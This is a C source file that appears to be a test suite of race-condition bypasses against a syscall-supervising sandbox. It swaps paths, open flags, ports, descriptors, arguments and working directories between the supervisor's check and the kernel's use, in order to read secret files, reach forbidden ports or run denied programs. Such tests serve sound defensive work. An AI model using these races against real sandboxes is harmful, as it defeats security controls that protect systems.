/* Ways around a supervisor that a program wins by being quick: what was checked isn't what is used. */
#include "attack.h"
#include <sys/socket.h>

static volatile int over;
static int honest;              /* tries in which what is allowed worked: without any, nothing was shown */
static char *shared;            /* bytes that two threads, or two processes, see */
static char one[600], other[600];

/* One byte tells the two paths apart, so that every moment shows a whole one of them. */
static void *flip(void *position) {
    size_t at_byte = (size_t)position;
    while (!over) {
        shared[at_byte] = other[at_byte];
        __sync_synchronize();
        shared[at_byte] = one[at_byte];
        __sync_synchronize();
    }
    return NULL;
}

static pthread_t begin(const char *good, const char *evil) {
    pthread_t thread;
    size_t position = 0;
    snprintf(one, sizeof one, "%s", good);
    snprintf(other, sizeof other, "%s", evil);
    while (one[position] == other[position])
        position++;
    shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    strcpy(shared, one);
    over = 0;
    pthread_create(&thread, NULL, flip, (void *)position);
    return thread;
}

static int outcome(int won) { return won ? 1 : honest ? 0 : -1; }

static int end(pthread_t thread, int won) {
    over = 1;
    pthread_join(thread, NULL);
    return outcome(won);
}

/* Whether it is the secret that was opened. */
static int stolen(int fd) {
    honest += fd >= 0;
    return is_secret(fd);
}

static int open_path(void) {
    pthread_t thread = begin(at("race/a"), at("race/b"));
    int won = 0;
    for (int i = 0; i < tries && !won; i++)
        won = stolen(open(shared, O_RDONLY));
    return end(thread, won);
}

static int open_path_of_another_process(void) {
    snprintf(one, sizeof one, "%s", at("race/a"));
    snprintf(other, sizeof other, "%s", at("race/b"));
    size_t position = strlen(one) - 1;
    shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    strcpy(shared, one);
    pid_t child = fork();
    if (!child)
        flip((void *)position);
    int won = 0;
    for (int i = 0; i < tries && !won; i++)
        won = stolen(open(shared, O_RDONLY));
    kill(child, SIGKILL);
    return outcome(won);
}

static struct open_how how;
static void *flip_how(void *none) {
    while (!over) {
        *(volatile unsigned long long *)&how.flags = O_PATH;
        __sync_synchronize();
        *(volatile unsigned long long *)&how.flags = O_RDONLY;
        __sync_synchronize();
    }
    return none;
}

static int openat2_flags(void) {
    pthread_t thread;
    int won = 0;
    over = 0;
    honest = 1; /* that path is never allowed */
    pthread_create(&thread, NULL, flip_how, NULL);
    for (int i = 0; i < tries && !won; i++)
        won = stolen(syscall(SYS_openat2, AT_FDCWD, at("race/b"), &how, sizeof how));
    return end(thread, won);
}

static int unlink_path(void) {
    pthread_t thread = begin(at("race/u"), at("race/v"));
    int won = 0;
    for (int i = 0; i < tries && !won; i++) {
        make(at("race/u"));
        honest += !unlink(shared);
        won = !exists(at("race/v"));
    }
    return end(thread, won);
}

static int rename_path(void) {
    pthread_t thread = begin(at("race/x"), at("race/y"));
    int won = 0;
    for (int i = 0; i < tries && !won; i++) {
        make(at("race/x"));
        honest += !rename(shared, at("race/z"));
        won = !exists(at("race/y"));
    }
    return end(thread, won);
}

static struct sockaddr_in target;
static void *flip_port(void *none) {
    while (!over) {
        *(volatile in_port_t *)&target.sin_port = htons(forbidden_port);
        __sync_synchronize();
        *(volatile in_port_t *)&target.sin_port = htons(allowed_port);
        __sync_synchronize();
    }
    return none;
}

static int connect_address(void) {
    pthread_t thread;
    int won = 0;
    over = 0;
    target = local(allowed_port);
    pthread_create(&thread, NULL, flip_port, NULL);
    for (int i = 0; i < tries && !won; i++) {
        struct sockaddr_in peer;
        socklen_t size = sizeof peer;
        int sock = socket(AF_INET, SOCK_DGRAM, 0);
        int connected = !connect(sock, (void *)&target, sizeof target);
        honest += connected;
        won = connected && !getpeername(sock, (void *)&peer, &size) &&
              peer.sin_port == htons(forbidden_port);
        close(sock);
    }
    return end(thread, won);
}

/* Two threads wait on one socket, on which strangers are heard between friends. */
static int server, strangers;
static void hear(const char *peer) {
    if (!strncmp(peer, "sekisho-stranger", 16))
        __sync_fetch_and_add(&strangers, 1);
    else
        __sync_fetch_and_add(&honest, 1);
}

static void *receive(void *none) {
    for (;;) {
        struct sockaddr_un peer = {0};
        socklen_t size = sizeof peer;
        char data[9] = "";
        if (recvfrom(server, data, 8, 0, (void *)&peer, &size) < 0 || !strcmp(data, "over"))
            return none;
        hear(peer.sun_path + 1);
    }
}

static int received_by_two(void) {
    pthread_t threads[2];
    int friend = named(SOCK_DGRAM, "friend"), stranger = named(SOCK_DGRAM, "stranger");
    server = named(SOCK_DGRAM, "server");
    if (reach(friend, "server") || reach(stranger, "server"))
        return -1;
    for (int i = 0; i < 2; i++)
        pthread_create(threads + i, NULL, receive, NULL);
    for (int i = 0; i < tries / 10 && !strangers; i++)
        write(i % 3 ? friend : stranger, "word", 4);
    for (int i = 0; i < 2; i++)
        write(friend, "over", 4);
    for (int i = 0; i < 2; i++)
        pthread_join(threads[i], NULL);
    return outcome(strangers);
}

static void *accept_all(void *none) {
    for (;;) {
        struct sockaddr_un peer = {0};
        socklen_t size = sizeof peer;
        int connection = accept(server, (void *)&peer, &size);
        if (connection < 0 || over)
            return none;
        hear(peer.sun_path + 1);
        close(connection);
    }
}

static int accepted_by_two(void) {
    pthread_t threads[2];
    over = 0;
    server = named(SOCK_STREAM, "server");
    if (server < 0 || listen(server, 16))
        return -1;
    for (int i = 0; i < 2; i++)
        pthread_create(threads + i, NULL, accept_all, NULL);
    for (int left = tries / 20; left > -2; left--) {
        left = strangers && left > 0 ? 0 : left;
        over = left <= 0;
        int client = named(SOCK_STREAM, over || left % 3 ? "friend" : "stranger");
        reach(client, "server");
        close(client);
    }
    for (int i = 0; i < 2; i++)
        pthread_join(threads[i], NULL);
    return outcome(strangers);
}

static int execute(int dirfd, const char *path) {
    int status;
    char *none[] = {"prog", NULL};
    pid_t child = vfork();
    if (!child) {
        syscall(SYS_execveat, dirfd, path, none, none + 1, 0);
        _exit(1);
    }
    waitpid(child, &status, 0);
    honest += WIFEXITED(status) && WEXITSTATUS(status) == 10;
    return WIFEXITED(status) && WEXITSTATUS(status) == 42;
}

static int exec_path(void) {
    pthread_t thread = begin(at("race/0/prog"), at("race/1/prog"));
    int won = 0;
    for (int i = 0; i < tries / 20 && !won; i++)
        won = execute(AT_FDCWD, shared);
    return end(thread, won);
}

static void *flip_cwd(void *none) {
    while (!over) {
        if (chdir(one) || chdir(other))
            break;
    }
    return none;
}

/* Each attempt in a process that shares its working directory with a thread of ours. */
static char stack[65536];
static int exec_here(void *none) {
    char *arguments[] = {"prog", NULL};
    execve("./prog", arguments, arguments + 1);
    _exit(1);
}

static int exec_working_directory(void) {
    pthread_t thread;
    int won = 0, status;
    snprintf(one, sizeof one, "%s", at("race/0"));
    snprintf(other, sizeof other, "%s", at("race/1"));
    over = 0;
    pthread_create(&thread, NULL, flip_cwd, NULL);
    for (int i = 0; i < tries / 20 && !won; i++) {
        pid_t child = clone(exec_here, stack + sizeof stack, CLONE_FS | SIGCHLD, NULL);
        waitpid(child, &status, 0);
        honest += WIFEXITED(status) && WEXITSTATUS(status) == 10;
        won = WIFEXITED(status) && WEXITSTATUS(status) == 42;
    }
    return end(thread, won);
}

static int folders[2];
static void *flip_descriptor(void *none) {
    while (!over) {
        dup2(folders[0], 100);
        dup2(folders[1], 100);
    }
    return none;
}

static int exec_from_100(void *none) {
    char *arguments[] = {"prog", NULL};
    syscall(SYS_execveat, 100, "prog", arguments, arguments + 1, 0);
    _exit(1);
}

static int exec_descriptor(void) {
    pthread_t thread;
    int won = 0, status;
    folders[0] = open(at("race/0"), O_PATH);
    folders[1] = open(at("race/1"), O_PATH);
    dup2(folders[0], 100);
    over = 0;
    pthread_create(&thread, NULL, flip_descriptor, NULL);
    for (int i = 0; i < tries / 20 && !won; i++) {
        pid_t child = clone(exec_from_100, stack + sizeof stack, CLONE_FILES | SIGCHLD, NULL);
        waitpid(child, &status, 0);
        honest += WIFEXITED(status) && WEXITSTATUS(status) == 10;
        won = WIFEXITED(status) && WEXITSTATUS(status) == 42;
    }
    return end(thread, won);
}

/* A message to a forbidden address, allowed to run since the socket was a connected stream when looked at. */
static int swapped_socket(int flags) {
    int pair[2], udp = socket(AF_INET, SOCK_DGRAM, 0), won = 0;
    struct sockaddr_in to = local(forbidden_port);
    struct iovec data = {"x", 1};
    struct msghdr head = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &data, .msg_iovlen = 1};
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
        return -1;
    folders[0] = pair[0];
    folders[1] = udp;
    dup2(pair[0], 100);
    over = 0;
    int *seen = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pid_t child = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (!child) {
        for (int i = 0; i < tries && !*seen; i++) {
            char drained[64];
            /* A stream pair refuses an address; only the UDP socket sends. */
            if (sendmsg(100, &head, MSG_DONTWAIT) == 1)
                *seen = 1;
            recv(pair[1], drained, sizeof drained, MSG_DONTWAIT);
        }
        _exit(0);
    }
    pthread_t thread;
    pthread_create(&thread, NULL, flip_descriptor, NULL);
    waitpid(child, NULL, 0);
    won = *seen;
    honest = 1;
    return end(thread, won);
}

static int sending_with_a_shared_table(void) { return swapped_socket(CLONE_FILES); }

/* A child that its parent doesn't own up to when it becomes another program. */
static int denied_by_parent(void) {
    int *flags = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int round = 0; round < 1 + tries / 1000 && !flags[1]; round++) {
        flags[0] = 0;
        pid_t parent = fork();
        if (!parent) {
            char *none[] = {"wait", NULL};
            struct rlimit no_core = {0, 0};
            setrlimit(RLIMIT_CORE, &no_core);
            signal(SIGCHLD, SIG_IGN);
            for (int i = 0; i < 60; i++)
                if (!fork()) {
                    struct timespec wait = {0, 1000000};
                    while (!flags[0])
                        nanosleep(&wait, NULL);
                    for (int j = 0; j < i * 20000; j++)
                        __sync_synchronize();
                    *(volatile int *)0 = 1;
                }
            pid_t child = fork();
            if (!child) {
                struct timespec wait = {0, 300000000};
                nanosleep(&wait, NULL);
                if (is_secret(open(at("race/granted"), O_RDONLY)))
                    flags[1] = 1;
                _exit(0);
            }
            flags[0] = 1;
            execve(at("race/wait"), none, none + 1);
            _exit(1);
        }
        waitpid(parent, NULL, 0);
        usleep(100000);
    }
    return flags[1];
}

/* What a process of this domain may read of itself isn't what it may read of the program it becomes. */
static int remembered_process_file(void) {
    char name[64];
    int pipes[2], won;
    if (pipe(pipes))
        return -1;
    pid_t becomes = fork();
    if (!becomes) {
        char *none[] = {"wait", NULL};
        snprintf(name, sizeof name, "/proc/%d/environ", getpid());
        for (int i = 0; i < 3; i++)
            close(open(name, O_RDONLY));
        if (write(pipes[1], "x", 1) == 1)
            execve(at("race/wait"), none, none + 1);
        _exit(1);
    }
    if (read(pipes[0], name, 1) != 1)
        return -1;
    usleep(100000);
    snprintf(name, sizeof name, "/proc/%d/environ", becomes);
    won = open(name, O_RDONLY) >= 0;
    waitpid(becomes, NULL, 0);
    return won;
}

/* A file that was there when it was asked for first, and is made anew without asking. Somebody outside removes it. */
static int made_again(void) {
    for (int i = 0; i < 3; i++)
        close(open(at("race/again"), O_CREAT | O_WRONLY, 0600));
    while (exists(at("race/again")))
        usleep(1000);
    return open(at("race/again"), O_CREAT | O_WRONLY, 0600) >= 0;
}

/* Arguments that weren't there when the program was looked at. */
static char *late[3];
static void *flip_arguments(void *none) {
    while (!over) {
        ((char *volatile *)late)[0] = "prog";
        __sync_synchronize();
        ((char *volatile *)late)[0] = NULL;
        __sync_synchronize();
    }
    return none;
}

static int exec_with_late_arguments(void *none) {
    execve(at("race/0/count"), late, late + 2);
    _exit(1);
}

static int late_arguments(void) {
    pthread_t thread;
    int won = 0, status;
    late[1] = NULL;
    over = 0;
    pthread_create(&thread, NULL, flip_arguments, NULL);
    for (int i = 0; i < tries / 20 && !won; i++) {
        pid_t child = clone(exec_with_late_arguments, stack + sizeof stack, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
        waitpid(child, &status, 0);
        honest += WIFEXITED(status) && WEXITSTATUS(status) == 10;
        won = WIFEXITED(status) && WEXITSTATUS(status) == 43;
    }
    return end(thread, won);
}

/* An argument that wasn't that one when the program was looked at. */
static int changed_argument(void) {
    pthread_t thread = begin("good", "evil");
    int won = 0, status;
    for (int i = 0; i < tries / 20 && !won; i++) {
        pid_t child = fork();
        if (!child) {
            char *arguments[] = {"count", shared, NULL};
            execve(at("race/0/count"), arguments, arguments + 2);
            _exit(1);
        }
        waitpid(child, &status, 0);
        honest += WIFEXITED(status) && WEXITSTATUS(status) == 10;
        won = WIFEXITED(status) && WEXITSTATUS(status) == 43;
    }
    return end(thread, won);
}

/* keeper.c's secret. */
#define KEPT ((void *)0x10000000)

/* A process that we may look into, since it is ours, becomes a program that we may not look into. */
static int memory_of_who_executes(void) {
    char data[8] = "", *none[] = {"keeper", NULL};
    struct iovec here = {data, 6}, there = {KEPT, 6};
    int won = 0;
    for (int i = 0; i < tries / 20 && !won; i++) {
        pid_t child = fork();
        if (!child) {
            execve(at("race/keeper"), none, none + 1);
            _exit(1);
        }
        for (int looks = 0; looks < 400 && !won && !waitpid(child, NULL, WNOHANG); looks++) {
            ssize_t got = process_vm_readv(child, &here, 1, &there, 1, 0);
            honest += got < 0 && errno == EFAULT;
            won = got == 6 && !memcmp(data, "secret", 6);
        }
        while (waitpid(child, NULL, 0) > 0)
            ;
    }
    return outcome(won);
}

static const attack table[] = {
    {"open_path", open_path},
    {"open_path_of_another_process", open_path_of_another_process},
    {"openat2_flags", openat2_flags},
    {"unlink_path", unlink_path},
    {"rename_path", rename_path},
    {"connect_address", connect_address},
    {"received_by_two", received_by_two},
    {"accepted_by_two", accepted_by_two},
    {"exec_path", exec_path},
    {"exec_working_directory", exec_working_directory},
    {"exec_descriptor", exec_descriptor},
    {"sending_with_a_shared_table", sending_with_a_shared_table},
    {"denied_by_parent", denied_by_parent},
    {"remembered_process_file", remembered_process_file},
    {"made_again", made_again},
    {"late_arguments", late_arguments},
    {"changed_argument", changed_argument},
    {"memory_of_who_executes", memory_of_who_executes},
    {NULL, NULL},
};

int main(int argc, char **argv) { return run_attacks(table, argc, argv); }
